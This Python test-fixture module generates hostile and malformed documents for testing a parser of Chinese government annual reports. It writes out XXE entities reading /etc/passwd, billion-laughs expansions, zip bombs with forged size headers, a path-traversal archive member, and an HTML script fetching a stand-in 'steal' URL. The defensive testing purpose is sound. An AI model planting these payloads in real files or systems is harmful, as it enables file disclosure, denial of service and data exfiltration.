"""Builders of hostile and broken inputs for tests/test_bad_inputs.py (and the encrypted PDF of test_readers.py).

Everything is generated: reportlab and PIL for PDFs and pictures, python-docx and zipfile for Word files, byte
surgery for broken ones. No binary file is checked in.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from conftest import ROOT
from fixtures import _cjk_font, make_report_docx, make_report_pdf, report_html

RAW = ROOT / "data" / "raw"


def _png(width: int = 600, height: int = 400, table: bool = True) -> bytes:
    """A picture: a ruled table with numbers drawn as pixels, or grey bars like a scanned page."""
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(img)
    if table:
        for y in range(10, height, 30):
            draw.line([(10, y), (width - 10, y)], fill="black")
        for x in range(10, width, 80):
            draw.line([(x, 10), (x, height - 10)], fill="black")
        for r, y in enumerate(range(20, height - 30, 30)):
            for c, x in enumerate(range(20, width - 80, 80)):
                draw.text((x, y), str((r * 7 + c * 3) % 50), fill="black")
    else:
        for y in range(20, height, 12):
            draw.line([(20, y), (width - 20, y)], fill=(90, 90, 90), width=3)
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def make_scanned_pdf(path: Path, pages: int = 2) -> Path:
    """Pages that hold only an image (a scan): no text layer at all."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path), pagesize=A4)
    img = ImageReader(io.BytesIO(_png(800, 1100, table=False)))
    for _ in range(pages):
        c.drawImage(img, 40, 60, width=A4[0] - 80, height=A4[1] - 120)
        c.showPage()
    c.save()
    return path


SECTION_PROSE = {
    2: "本年度主动公开情况见下表。",
    3: "本年度共收到政府信息公开申请20件，上年结转2件，办结21件，结转下年度继续办理1件。",
    4: "本年度发生政府信息公开行政复议案件1件，行政诉讼案件4件。",
}
HEADINGS = [
    "一、总体情况",
    "二、主动公开政府信息情况",
    "三、收到和处理政府信息公开申请情况",
    "四、政府信息公开行政复议、行政诉讼情况",
    "五、存在的主要问题及改进情况",
    "六、其他需要报告的事项",
]


def make_picture_tables_pdf(path: Path) -> Path:
    """A real text report (title, six headings, prose) whose three tables are pictures."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.platypus import Image, Paragraph, SimpleDocTemplate

    st = ParagraphStyle("n", fontName=_cjk_font(), fontSize=10.5, leading=18)
    story = [Paragraph("示例市人民政府2024年政府信息公开工作年度报告", st)]
    for k, heading in enumerate(HEADINGS, start=1):
        story.append(Paragraph(heading, st))
        story.append(Paragraph(SECTION_PROSE.get(k, "本年度各项工作有序推进，取得积极成效。"), st))
        if k in SECTION_PROSE:
            story.append(Image(io.BytesIO(_png()), width=420, height=280))
    SimpleDocTemplate(str(path), pagesize=A4).build(story)
    return path


def picture_tables_html() -> str:
    body = "".join(
        f"<p>{h}</p><p>{SECTION_PROSE.get(k, '本年度各项工作有序推进，取得积极成效。')}</p>"
        + (f'<p><img src="table{k}.png" alt="表{k}"></p>' if k in SECTION_PROSE else "")
        for k, h in enumerate(HEADINGS, start=1)
    )
    return (
        f'<html><head><meta charset="utf-8"></head><body><h1>示例县2023年政府信息公开工作年度报告</h1>{body}'
        f"</body></html>"
    )


def make_long_report_pdf(path: Path, filler_pages: int) -> Path:
    """The fixture report followed by `filler_pages` pages of appendix (a list of documents, 30 lines a page)."""
    import reportlab.platypus as platypus
    from reportlab.lib.styles import ParagraphStyle

    base = platypus.SimpleDocTemplate
    st = ParagraphStyle("f", fontName=_cjk_font(), fontSize=10.5, leading=18)

    class WithAppendix(base):
        def build(self, story, **kwargs):
            story = list(story)
            for p in range(filler_pages):
                story.append(platypus.PageBreak())
                story.append(platypus.Paragraph(f"附件{p + 1}：本机关主动公开的政府信息目录（第{p + 1}页）", st))
                story += [
                    platypus.Paragraph(f"{p + 1}-{k + 1}　关于印发示例市第{k + 1}号工作方案的通知", st)
                    for k in range(30)
                ]
            return super().build(story, **kwargs)

    platypus.SimpleDocTemplate = WithAppendix  # make_report_pdf imports it when called
    try:
        return make_report_pdf(path)
    finally:
        platypus.SimpleDocTemplate = base


def break_xref(pdf: bytes) -> bytes:
    """Every xref offset and the startxref pointer replaced by garbage."""
    out = re.sub(rb"(?m)^\d{10} (\d{5}) ([nf])", lambda m: b"9" * 10 + b" " + m.group(1) + b" " + m.group(2), pdf)
    out = re.sub(rb"startxref\s+\d+", b"startxref\n123456789", out)
    assert out != pdf
    return out


def _rebuild_xref(pdf: bytes) -> bytes:
    """Recompute the xref table and startxref of a classic PDF after edits moved its objects."""
    body_end = pdf.rindex(b"\nxref\n") + 1
    offsets = {int(m.group(1)): m.start(1) for m in re.finditer(rb"(?m)^(\d+) 0 obj", pdf[:body_end])}
    size = max(offsets) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
    table += b"".join(b"%010d 00000 n \n" % offsets[i] for i in range(1, size))
    trailer = pdf[pdf.index(b"trailer", body_end) : pdf.rindex(b"startxref")]
    return pdf[:body_end] + table + trailer + b"startxref\n%d\n%%%%EOF\n" % body_end


def encrypt_font_strings(pdf: bytes, password: str = "") -> bytes:
    """reportlab leaves the CIDSystemInfo strings of its CJK fonts unencrypted in an encrypted PDF, so every reader
    decrypts them into garbage and loses the font's Unicode mapping. Encrypt them as the PDF standard says (RC4,
    reportlab's cipher, is its own inverse) and fix the xref: a correctly encrypted PDF with an empty user
    password, as Acrobat writes them."""
    from pdfminer.pdfdocument import PDFDocument
    from pdfminer.pdfparser import PDFParser

    doc = PDFDocument(PDFParser(io.BytesIO(pdf)), password=password)

    def fix(m):
        objid = int(m.group(1))
        body = re.sub(
            rb"\((Adobe|GB1)\)", lambda s: b"<" + doc.decipher(objid, 0, s.group(1)).hex().encode() + b">", m.group(2)
        )
        return m.group(1) + b" 0 obj" + body + b"endobj"

    fixed = re.sub(
        rb"(?s)(?<=\n)(\d+) 0 obj(.*?)endobj", lambda m: fix(m) if b"CIDSystemInfo" in m.group(2) else m.group(0), pdf
    )
    assert fixed != pdf
    return _rebuild_xref(fixed)


def unmapped_glyphs_pdf(pdf: bytes) -> bytes:
    """The report PDF with its CJK font made anonymous: no known font name, an unknown character collection and
    Identity-H codes, so nothing tells a reader which character a glyph is (byte lengths kept, the xref stays
    valid)."""
    swaps = [
        (b"(Adobe)", b"(Xdobe)"),
        (b"(GB1)", b"(XB1)"),
        (b"STSong-Light", b"XXXXXX-Light"),
        (b"UniGB-UCS2-H", b"Identity-H  "),
    ]
    for old, new in swaps:
        assert old in pdf and len(old) == len(new)
        pdf = pdf.replace(old, new)
    return pdf


def _docx_with(path: Path, edit) -> Path:
    """The fixture report DOCX rewritten member by member: `edit(name, bytes)` returns the new bytes (or None to
    keep them); it is called once more with name None to add members (returns {name: bytes})."""
    base = make_report_docx(path.with_name(path.name + ".base.docx"))
    data = base.read_bytes()
    base.unlink()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            content = z.read(info.filename)
            new = edit(info.filename, content)
            out.writestr(info, content if new is None else new)
        for name, content in (edit(None, None) or {}).items():
            out.writestr(name, content)
    return path


def make_zip_bomb_docx(path: Path, size: int = 2 * 1024**3) -> Path:
    """A valid report DOCX plus one member of `size` zeros (2 GB), deflated chunk by chunk: the file is ~2 MB."""
    _docx_with(path, lambda name, content: None)
    chunk = bytes(16 * 1024 * 1024)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open("word/media/zeros.bin", "w", force_zip64=True) as f:
            for _ in range(size // len(chunk)):
                f.write(chunk)
    return path


def make_lying_zip_bomb_docx(path: Path, padding: int = 64 * 1024 * 1024) -> Path:
    """A DOCX whose document.xml really inflates to 64 MB more than its headers declare: the sizes in the archive
    look harmless, so only the decompressor's own bound (the declared size) stops it."""

    def edit(name, content):
        if name == "word/document.xml":
            return content + b" " * padding
        return None

    _docx_with(path, edit)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("word/document.xml")
    declared = info.file_size - padding
    name = b"word/document.xml"
    local = info.header_offset
    assert data[local : local + 4] == b"PK\x03\x04" and data[local + 30 : local + 30 + len(name)] == name
    data[local + 22 : local + 26] = declared.to_bytes(4, "little")  # uncompressed size in the local header
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(name)] != name:
        central = data.index(b"PK\x01\x02", central + 4)
    data[central + 24 : central + 28] = declared.to_bytes(4, "little")  # and in the central directory
    path.write_bytes(bytes(data))
    return path


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def make_external_rels_docx(path: Path) -> Path:
    """A report DOCX whose relationships point outside the package: a hyperlink, a linked picture, a sub-document,
    an alternative-format chunk and an attached template, to http://example.invalid and file:///etc/passwd, and an
    INCLUDETEXT field naming /etc/passwd."""
    rels = (
        f'<Relationship Id="rIdX1" Type="{_REL}hyperlink" Target="http://example.invalid/x" '
        f'TargetMode="External"/>'
        f'<Relationship Id="rIdX2" Type="{_REL}image" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rIdX3" Type="{_REL}subDocument" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rIdX4" Type="{_REL}aFChunk" Target="http://example.invalid/chunk.html" '
        f'TargetMode="External"/>'
    )
    body = (
        '<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;"><w:r><w:t>包含</w:t></w:r>'
        '</w:fldSimple></w:p><w:p><w:subDoc r:id="rIdX3"/></w:p><w:altChunk r:id="rIdX4"/>'
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdX2"/></w:pict></w:r>'
        "</w:p>"
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
        f'Type="{_REL}attachedTemplate" Target="http://example.invalid/template.dotm" '
        'TargetMode="External"/></Relationships>'
    )

    def edit(name, content):
        if name is None:
            return {"word/_rels/settings.xml.rels": settings_rels}
        if name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
        if name == "word/document.xml":
            return content.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
        return None

    return _docx_with(path, edit)


def _laughs(levels: int = 9) -> str:
    return (
        '<!ENTITY lol "lol"><!ENTITY lol1 "'
        + "&lol;" * 10
        + '">'
        + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, levels + 1))
    )


def make_entity_docx(path: Path, laughs: bool) -> Path:
    """A report DOCX whose document.xml declares an external entity (file:///etc/passwd) and uses it; with `laughs`
    also a billion-laughs entity (10^9 copies of "lol")."""
    dtd = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">' + (_laughs() if laughs else "") + "]>"
    use = "&xxe;&lol9;" if laughs else "&xxe;"

    def edit(name, content):
        if name == "word/document.xml":
            content = re.sub(rb"(<\?xml[^>]*\?>)", lambda m: m.group(1) + dtd.encode(), content, count=1)
            return content.replace(b"<w:body>", f"<w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p>".encode(), 1)
        return None

    return _docx_with(path, edit)


def make_not_a_report_docx(path: Path) -> Path:
    import docx

    d = docx.Document()
    for text in (
        "关于召开2024年第一季度安全生产工作会议的通知",
        "各乡镇人民政府，县直各单位：",
        "经研究，定于2024年3月15日上午9时在县政府三楼会议室召开全县安全生产工作会议，请准时参加。",
        "参会人员：各单位分管负责同志1名。",
        "示例县人民政府办公室",
        "2024年3月10日",
    ):
        d.add_paragraph(text)
    d.save(str(path))
    return path


def hostile_html() -> str:
    """The fixture report page (UTF-8) with an XML prolog declaring an external entity and a billion laughs, and
    scripts, iframes, objects and remote resources pointing at /etc/passwd and example.invalid."""
    dtd = '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">' + _laughs() + "]>"
    page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
    page = page.replace("<!DOCTYPE html>", '<?xml version="1.0"?>' + dtd, 1)
    evil = (
        '<script>document.write("<p>一、总体情况</p>"); fetch("http://example.invalid/steal")</script>'
        '<iframe src="file:///etc/passwd"></iframe><iframe src="http://example.invalid/frame"></iframe>'
        '<object data="file:///etc/passwd"></object><img src="http://example.invalid/pixel.gif">'
        '<link rel="stylesheet" href="http://example.invalid/s.css"><p>&xxe;&lol9;</p>'
        '<svg><use href="file:///etc/passwd#x"/></svg><base href="http://example.invalid/">'
    )
    return page.replace("<body>", "<body>" + evil, 1)


def big_html(target_bytes: int = 20 * 1024 * 1024) -> bytes:
    """The fixture report page with a 20 MB list of related links (160 000 lines of site furniture)."""
    page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
    item = '<li><a href="/zwgk/{0}.htm">关于印发示例区第{0}号政务公开工作方案的通知</a><span>2024-01-01</span></li>\n'
    parts, size, k = [], 0, 0
    while size < target_bytes:
        s = item.format(k)
        parts.append(s)
        size += len(s.encode("utf-8"))
        k += 1
    filler = '<div class="related"><ul>' + "".join(parts) + "</ul></div>"
    return page.replace('<div class="footer">', filler + '<div class="footer">', 1).encode("utf-8")


def span_bomb_html() -> str:
    """The fixture report page with one more table of 30 cells each spanning 1000 × 1000 grid positions."""
    page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
    bomb = (
        '<table border="1">'
        + "".join(f'<tr><td rowspan="1000" colspan="1000">{i}</td><td>x</td></tr>' for i in range(30))
        + "</table>"
    )
    return page.replace("<p>四、", bomb + "<p>四、", 1)


def deep_html(depth: int = 100_000) -> str:
    """The fixture report followed by 100 000 nested <div>s."""
    page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
    return page.replace("</body>", "<div>" * depth + "深" + "</div>" * depth + "</body>", 1)


def html_without_charset(name: str) -> bytes:
    """A corpus page re-encoded in GB18030 with every charset declaration removed."""
    text = (RAW / name).read_text(encoding="utf-8")
    text = re.sub(r"<meta[^>]*charset[^>]*>", "", text, flags=re.I)
    assert "charset" not in text.lower()
    return text.encode("gb18030")


def mixed_encoding_text() -> bytes:
    """suizhou-2020.txt with every fourth prose line in GBK and the rest in UTF-8."""
    out = []
    for i, line in enumerate((RAW / "suizhou-2020.txt").read_text(encoding="utf-8").split("\n")):
        gbk = i % 4 == 1 and "|" not in line and line.strip()
        out.append(line.encode("gb18030" if gbk else "utf-8"))
    return b"\n".join(out)


def _zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _zeros_zip(path: Path, member: str, size: int, extra: dict[str, bytes] | None = None) -> Path:
    """A zip with `extra` members and one of `size` zeros, deflated chunk by chunk (a zip bomb of ~size/1000)."""
    path.write_bytes(_zip(extra or {}))
    chunk = bytes(16 * 1024 * 1024)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z, z.open(member, "w", force_zip64=True) as f:
        for _ in range(size // len(chunk)):
            f.write(chunk)
    return path


def encrypted_office(data: bytes, password: str = "secret") -> bytes:
    """A .docx/.xlsx encrypted with a password, as Office saves it: an OLE2 file holding EncryptedPackage
    (msoffcrypto-tool, ECMA-376 agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def password_zip(name: str, data: bytes) -> bytes:
    """A zip whose one member is marked encrypted (general-purpose flag bit 0 in both headers): Python cannot
    write ZipCrypto, and what a reader must do is refuse the member, whatever cipher follows."""
    raw = bytearray(_zip({name: data}, zipfile.ZIP_STORED))
    local, central = 0, raw.find(b"PK\x01\x02")
    raw[local + 6] |= 0x01
    raw[central + 8] |= 0x01
    return bytes(raw)


def xlsx_bytes() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["项目", "数量"])
    wb.active.append(["本年新收政府信息公开申请数量", 3])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def build_office_bad_inputs(d: Path, put) -> None:
    """Broken and hostile files of the formats read through LibreOffice, openpyxl, the OFD reader and archives.
    None needs LibreOffice to be made (a real Word 97 file does: tests/test_formats.py makes those)."""
    docx = make_report_docx(d / "docx.tmp").read_bytes()
    (d / "docx.tmp").unlink()
    pdf = make_report_pdf(d / "pdf.tmp").read_bytes()
    (d / "pdf.tmp").unlink()
    put("encrypted.docx", "a password-protected .docx (an OLE2 file holding EncryptedPackage)", encrypted_office(docx))
    put("encrypted.xlsx", "a password-protected .xlsx", encrypted_office(xlsx_bytes()))
    put("truncated.doc", "an OLE2 file cut to its first 1500 bytes", encrypted_office(docx)[:1500])
    put("report-pdf.doc", "the fixture PDF saved with a .doc name", pdf)
    put("report-docx.zip", "the fixture Word file saved with a .zip name", docx)
    put("report-pdf.wps", "the fixture PDF saved with a .wps name", pdf)
    put(
        "corrupt.xlsx",
        "a workbook whose workbook.xml is not XML",
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook <<", "xl/x": b"1"}),
    )
    _zeros_zip(d / "zip-bomb.xlsx", "xl/media/zeros.bin", 320 * 1024 * 1024, {"xl/workbook.xml": b"<workbook/>"})
    put("zip-bomb.xlsx", "a workbook with a member of 320 MB of zeros")
    put("corrupt.ofd", "an OFD whose OFD.xml is not XML", _zip({"OFD.xml": b"<ofd:OFD <<"}))
    put(
        "no-pages.ofd",
        "an OFD naming a Document.xml it does not hold",
        _zip(
            {
                "OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>'
                b"Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
            }
        ),
    )
    _zeros_zip(d / "zip-bomb.ofd", "Doc_0/zeros.bin", 320 * 1024 * 1024, {"OFD.xml": b"<OFD/>"})
    put("zip-bomb.ofd", "an OFD with a member of 320 MB of zeros")
    put("corrupt.zip", "a zip signature followed by noise", b"PK\x03\x04" + bytes(range(256)) * 8)
    _zeros_zip(d / "zip-bomb.zip", "zeros.txt", 320 * 1024 * 1024)
    put("zip-bomb.zip!zeros.txt", "a zip member of 320 MB of zeros")
    _zeros_zip(d / "ratio-bomb.zip", "zeros.txt", 112 * 1024 * 1024)
    put("ratio-bomb.zip!zeros.txt", "a zip member of 112 MB of zeros (1000 times its packed size)")
    report = (RAW / "qingtongxia-2020.txt").read_bytes()
    (d / "password.zip").write_bytes(password_zip("report.txt", report))
    put("password.zip!report.txt", "a zip member marked encrypted")
    (d / "traversal.zip").write_bytes(_zip({"..\\evil.txt": report}))
    put("traversal.zip!..\\evil.txt", "a zip member named ..\\evil.txt (path traversal)")
    (d / "nested.zip").write_bytes(_zip({"inner.zip": _zip({"report.txt": report})}))
    put("nested.zip!inner.zip", "a zip inside a zip")
    put("many-members.zip", "a zip of 5001 members", _zip({f"{i}.txt": b"x" for i in range(5001)}))
    put("archive.7z", "a 7z archive", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64))
    put("notes.xyz", "a text file with an extension no reader takes", "会议纪要\n")


def build_bad_inputs(d: Path) -> dict[str, str]:
    """Write every bad input into `d`; returns {file name: what it is}."""
    d.mkdir(parents=True, exist_ok=True)
    made: dict[str, str] = {}

    def put(name, what, data=None):
        if data is not None:
            (d / name).write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        made[name] = what

    good_pdf = make_report_pdf(d / "good.pdf.tmp").read_bytes()
    (d / "good.pdf.tmp").unlink()
    put("empty.txt", "zero-byte text file", b"")
    put("empty.pdf", "zero-byte PDF", b"")
    put("truncated.pdf", "PDF cut to its first third", good_pdf[: len(good_pdf) // 3])
    put("truncated-tail.pdf", "PDF missing its last 300 bytes (xref and trailer)", good_pdf[:-300])
    put("broken-xref.pdf", "PDF with every xref offset and startxref garbage", break_xref(good_pdf))
    make_report_pdf(d / "encrypted-empty.pdf", encrypt_user_password="")
    put(
        "encrypted-empty.pdf",
        "encrypted PDF, empty user password",
        encrypt_font_strings((d / "encrypted-empty.pdf").read_bytes()),
    )
    make_report_pdf(d / "encrypted-secret.pdf", encrypt_user_password="secret")
    put("encrypted-secret.pdf", "encrypted PDF, user password 'secret'")
    put(
        "glyphs-without-unicode.pdf",
        "PDF whose CJK font lost its Unicode mapping (text layer reads as (cid:N))",
        unmapped_glyphs_pdf(make_report_pdf(d / "glyphs-base.pdf").read_bytes()),
    )
    (d / "glyphs-base.pdf").unlink()
    make_scanned_pdf(d / "scanned.pdf")
    put("scanned.pdf", "image-only PDF (a scan)")
    make_long_report_pdf(d / "long-500-pages.pdf", filler_pages=498)
    put("long-500-pages.pdf", "report plus 498 pages of appendix (500 pages)")
    make_picture_tables_pdf(d / "tables-as-pictures.pdf")
    put("tables-as-pictures.pdf", "text report whose three tables are pictures")
    put("tables-as-pictures.html", "HTML report whose three tables are <img>", picture_tables_html())
    put("fake.pdf", "HTML saved with a .pdf name", "<html><body><p>hello</p></body></html>")
    put(
        "gbk-no-charset.html",
        "corpus page in GB18030 without a charset declaration",
        html_without_charset("pingtan-2025.html"),
    )
    put("hostile.html", "script, iframe, object, billion laughs and XXE in a report page", hostile_html())
    put("big-20mb.html", "20 MB report page", big_html())
    put("span-bomb.html", "report page plus a table of 30 cells spanning 1000x1000", span_bomb_html())
    put("deep-nesting.html", "report page plus 100 000 nested divs", deep_html())
    put("image.html", "a PNG saved as .html", _png(50, 50))
    make_zip_bomb_docx(d / "zip-bomb.docx")
    put("zip-bomb.docx", "DOCX with a member of 2 GB of zeros")
    make_lying_zip_bomb_docx(d / "zip-bomb-lying.docx")
    put("zip-bomb-lying.docx", "DOCX whose document.xml inflates 64 MB past its declared size")
    make_external_rels_docx(d / "external-rels.docx")
    put("external-rels.docx", "DOCX with external relationships to example.invalid and /etc/passwd")
    make_entity_docx(d / "xxe.docx", laughs=False)
    put("xxe.docx", "DOCX declaring an external entity to /etc/passwd")
    make_entity_docx(d / "billion-laughs.docx", laughs=True)
    put("billion-laughs.docx", "DOCX with a billion-laughs entity")
    make_not_a_report_docx(d / "meeting-notice.docx")
    put("meeting-notice.docx", "a meeting notice, not an annual report")
    put("legacy.docx", "an OLE (.doc) file named .docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    qingtongxia = (RAW / "qingtongxia-2020.txt").read_text(encoding="utf-8")
    put("utf16-bom.txt", "corpus text in UTF-16 with a BOM", qingtongxia.encode("utf-16"))
    put("utf16le-nobom.txt", "corpus text in UTF-16-LE without a BOM", qingtongxia.encode("utf-16-le"))
    put("mixed-encodings.txt", "corpus text with UTF-8 and GBK lines mixed", mixed_encoding_text())
    put("noise.txt", "binary noise", bytes(range(256)) * 256)
    put("marker-line.txt", "30 MB line of 一、一、… (15 million headings)", ("一、" * 5_000_000).encode("utf-8"))
    put("pipe-line.txt", "5 MB line of pipes (a 2.5-million-cell table row)", "a" + "|1" * 2_500_000)
    put(
        "news.txt",
        "a news item, not an annual report",
        "本报讯 3月12日，示例县开展植树节义务植树活动，共植树1200余株。\n活动现场气氛热烈，干部群众积极参与。\n",
    )
    build_office_bad_inputs(d, put)
    return made
